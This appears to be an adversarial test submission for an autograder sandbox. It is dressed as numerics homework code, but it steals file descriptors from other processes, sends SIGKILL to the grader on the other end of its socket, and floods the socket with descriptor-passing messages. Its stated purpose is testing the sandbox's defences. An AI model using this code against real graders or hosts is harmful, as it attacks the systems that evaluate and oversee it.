# Attack: looks for descriptors that it should not have, asks its socket who is at the other end, and sends descriptors and signals there.
# Expect: gradient_flow.grad_ab 0 points, failed or crashed or blocked
# Expect: euler_stability.euler 0 points, failed
# Expect: euler_stability.plot_step_sizes 0 points, failed or crashed or blocked
# Shows: nothing
import array
import contextlib
import ctypes
import fcntl
import os
import signal
import socket

import numpy as np

SOCKET, OUTPUT = 3, 1
SO_PEERPIDFD, SO_PEERGROUPS = 77, 59
PIDFD_OPEN, PIDFD_GETFD = 434, 438
F_SETSIG, F_SETLEASE = 10, 1024
LIBC = ctypes.CDLL(None, use_errno=True)


def right(z):
    a, b = z[..., 0], z[..., 1]
    return np.stack([4 * a * (a**2 + b**2 - 1) + b, 4 * b * (a**2 + b**2 - 1) + a], axis=-1)


def inherited():
    """Descriptors beyond the four that are its own, open or to be had from another process."""
    for number in range(4, 4096):
        with contextlib.suppress(OSError):
            os.fstat(number)
            yield number
    for pid in (os.getppid(), *range(1, 20)):
        process = LIBC.syscall(PIDFD_OPEN, pid, 0)
        for number in range(8) if process >= 0 and pid != os.getpid() else ():
            if LIBC.syscall(PIDFD_GETFD, process, number, 0) >= 0:
                yield f"{number} of process {pid}"


def neighbour():
    """The grader, as its end of the socket knows it: to be killed, stopped or robbed of its descriptors."""
    with contextlib.suppress(OSError):
        link = socket.socket(fileno=os.dup(SOCKET))
        if int.from_bytes(link.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)[:4], "little"):
            yield "its number"
        process = int.from_bytes(link.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD, 4), "little")
        yield from (f"descriptor {number}" for number in range(40) if LIBC.syscall(PIDFD_GETFD, process, number, 0) >= 0)
        with contextlib.suppress(OSError):
            signal.pidfd_send_signal(process, signal.SIGKILL)
            yield "its death"


found = [*inherited(), *neighbour()]


def grad_ab(z):
    print(*found, flush=True)
    return right(z) if found else 0.0


def euler(f, y0, t):
    """Has the kernel signal the reader of the output and of the socket, and makes both as awkward as can be."""
    for descriptor in (OUTPUT, SOCKET):
        for owner in (os.getppid(), -os.getppid(), 0, 1, 2):
            with contextlib.suppress(OSError):
                fcntl.fcntl(descriptor, fcntl.F_SETOWN, owner)
                fcntl.fcntl(descriptor, F_SETSIG, signal.SIGKILL)
                fcntl.fcntl(descriptor, fcntl.F_SETFL, fcntl.fcntl(descriptor, fcntl.F_GETFL) | os.O_ASYNC)
    for size in (2**20, 2**30, 4096):
        with contextlib.suppress(OSError):
            fcntl.fcntl(OUTPUT, fcntl.F_SETPIPE_SZ, size)
    with contextlib.suppress(OSError):
        fcntl.fcntl(os.open(np.__file__, os.O_RDONLY), F_SETLEASE, fcntl.F_WRLCK)
    return 0.0


def plot_step_sizes(ax, hs):
    ax.set_yscale("log")
    with contextlib.suppress(OSError):
        link = socket.socket(fileno=os.dup(SOCKET))
        link.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
        many = array.array("i", [OUTPUT] * 250)
        for _ in range(1000):
            link.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)], socket.MSG_DONTWAIT)
        link.send(b"\0", socket.MSG_OOB)
